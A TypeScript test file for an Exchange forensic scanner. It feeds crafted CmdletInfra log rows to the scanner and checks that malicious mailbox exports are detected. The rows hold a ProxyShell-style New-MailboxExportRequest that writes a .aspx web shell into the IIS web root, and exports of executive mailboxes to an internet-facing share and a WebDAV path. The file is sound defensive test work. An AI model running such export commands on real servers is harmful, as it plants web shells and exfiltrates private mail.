// CmdletInfra cmdlet logs in the shapes a responder meets, beyond the `#Log-type: Rps Cmdlet Logs` file of the
// Powershell-Proxy folder. The header and a benign row are the real artefacts.help sample (Qazeer/artefacts.help,
// vendored, CC0); the ProxyShell row puts into that row the cmdlet and parameters a public ProxyShell lab write-up
// shows in its Rps_Cmdlet log (New-MailboxExportRequest -FilePath "\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\
// tkevsn.aspx"). Shapes:
// - LocalPowerShell\Cmdlet\*_Cmdlet_*.LOG: cmdlets run in the server's own PowerShell (a web shell loading the
//   Exchange snap-in to export mailboxes, as HAFNIUM did). Same columns; no public sample shows its #Log-type, so
//   it is recognised by its columns whatever that line says.
// - the header as a plain first line, then the directives (as that write-up prints its log);
// - Import-Csv | Export-Csv of a log (Windows PowerShell's #TYPE line, every cell quoted).
// Each was counted as "ignored as unrelated": the export request to a web folder was never seen.
import { afterAll, describe, expect, it } from 'vitest';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { ScanReport } from '../src/model.js';
import { splitCsvLine } from '../src/parsers/csv.js';
import { exhunt } from './support/cli.js';
import { external } from './support/external.js';

const SAMPLE = readFileSync(external('Qazeer-artefacts.help/extracted/Rps_Cmdlet_2023011116-1.LOG'), 'utf8').split(/\r?\n/);
const FIELDS_LINE = SAMPLE.find((l) => l.startsWith('#Fields: '))!;
const FIELDS = FIELDS_LINE.slice('#Fields: '.length).split(',');
const BENIGN = SAMPLE.find((l) => /^\d{4}-/.test(l))!;
const EXPORT = '-Mailbox "Jones" -Name "2075506b3d074905b07b9993841d265c" -FilePath "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\tkevsn.aspx"';
const quoteCsv = (s: string) => (/[",]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);

/** The benign row with another time, cmdlet and parameters (columns found by name). */
function row(time: string, cmdlet: string, params: string): string[] {
  const cells = splitCsvLine(BENIGN);
  cells[FIELDS.indexOf('DateTime')] = time;
  cells[FIELDS.indexOf('Cmdlet')] = cmdlet;
  cells[FIELDS.indexOf('Parameters')] = params;
  return cells;
}
const ROWS = [row('2023-01-11T16:20:01.112Z', 'Get-Mailbox', '-ResultSize "1"'), row('2023-01-11T16:21:08.489Z', 'New-MailboxExportRequest', EXPORT)];
const csvLines = (quoteAll: boolean) => ROWS.map((r) => r.map((c) => (quoteAll ? `"${c.replace(/"/g, '""')}"` : quoteCsv(c))).join(','));
const DIRECTIVES = SAMPLE.filter((l) => l.startsWith('#'));

const dir = mkdtempSync(join(tmpdir(), 'exhunt-cmdletlogs-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const EX = 'C/Program Files/Microsoft/Exchange Server/V15/Logging/CmdletInfra';

function scan(name: string, rel: string, text: string) {
  const root = join(dir, name);
  mkdirSync(join(root, rel, '..'), { recursive: true });
  writeFileSync(join(root, rel), text);
  const out = join(dir, `${name}.json`);
  exhunt(['scan', root, '--json', out, '--jobs', '1']);
  return (JSON.parse(readFileSync(out, 'utf8')) as ScanReport).hosts[0];
}

const exportFound = (h: ReturnType<typeof scan>) => h.findings.filter((f) => f.rule === 'PS-08' && /New-MailboxExportRequest/.test(f.summary)).map((f) => [f.time, f.source.line]);

describe('CmdletInfra cmdlet logs beyond the Rps Cmdlet file', () => {
  it('a LocalPowerShell cmdlet log is read (by its columns), under its own coverage source', () => {
    const directives = DIRECTIVES.map((l) => (l.startsWith('#Log-type:') ? '#Log-type: LocalPowerShell Cmdlet Logs' : l));
    const h = scan('local', `${EX}/LocalPowerShell/Cmdlet/LocalPowerShell_Cmdlet_2023011116-1.LOG`, [...directives, ...csvLines(false)].join('\r\n') + '\r\n');
    expect(exportFound(h)).toEqual([['2023-01-11T16:21:08.489Z', 7]]);
    expect(h.coverage.map((c) => [c.source, c.records])).toEqual([['CmdletInfra LocalPowerShell Cmdlet', 2]]);
  });

  it('a log printed with its header as a plain first line is read', () => {
    const text = [FIELDS_LINE.slice('#Fields: '.length), ...DIRECTIVES, ...csvLines(false)].join('\r\n') + '\r\n';
    const h = scan('header-first', `${EX}/Powershell-Proxy/Cmdlet/Rps_Cmdlet_2023011116-1.LOG`, text);
    expect(exportFound(h)).toEqual([['2023-01-11T16:21:08.489Z', 8]]);
  });

  it('an Import-Csv | Export-Csv copy of the log is read', () => {
    const header = FIELDS.map((f) => `"${f}"`).join(',');
    const h = scan('export-csv', 'rps-cmdlets.csv', ['#TYPE System.Management.Automation.PSCustomObject', header, ...csvLines(true)].join('\r\n') + '\r\n');
    expect(exportFound(h)).toEqual([['2023-01-11T16:21:08.489Z', 4]]);
    expect(h.verdict).toBe('compromised');
  });
});

describe('where a mailbox export goes', () => {
  it('a share named by a public IP address is exfiltration (high); an internal share or server is the admin workflow (info) (review9 F8)', () => {
    const exportTo = (time: string, mailbox: string, path: string) => row(time, 'New-MailboxExportRequest', `-Mailbox "${mailbox}" -FilePath "${path}"`);
    const rows = [
      exportTo('2023-01-11T16:22:00.000Z', 'ceo@contoso.se', '\\\\45.77.12.34\\share\\ceo.pst'),
      exportTo('2023-01-11T16:23:00.000Z', 'hr@contoso.se', '\\\\fs01\\pst\\hr.pst'),
      exportTo('2023-01-11T16:24:00.000Z', 'legal@contoso.se', '\\\\10.0.0.5\\pst\\legal.pst'),
      // WebDAV over HTTPS (the WebClient service): \\host@SSL\…
      exportTo('2023-01-11T16:25:00.000Z', 'cfo@contoso.se', '\\\\45.77.12.34@SSL\\DavWWWRoot\\cfo.pst'),
    ].map((r) => r.map(quoteCsv).join(','));
    const h = scan('exfil', `${EX}/Powershell-Proxy/Cmdlet/Rps_Cmdlet_2023011116-1.LOG`, [...DIRECTIVES, ...rows].join('\r\n') + '\r\n');
    const graded = h.findings.filter((f) => f.rule === 'PS-08').map((f) => [f.evidence.file, f.severity, f.kind]);
    expect(graded).toEqual([
      ['\\\\45.77.12.34\\share\\ceo.pst', 'high', 'post-exploitation'],
      ['\\\\fs01\\pst\\hr.pst', 'info', 'post-exploitation'],
      ['\\\\10.0.0.5\\pst\\legal.pst', 'info', 'post-exploitation'],
      ['\\\\45.77.12.34@SSL\\DavWWWRoot\\cfo.pst', 'high', 'post-exploitation'],
    ]);
    expect(h.verdict).toBe('compromised');
    expect(h.reasons[0]).toContain('a share on the internet address 45.77.12.34');
  });
});
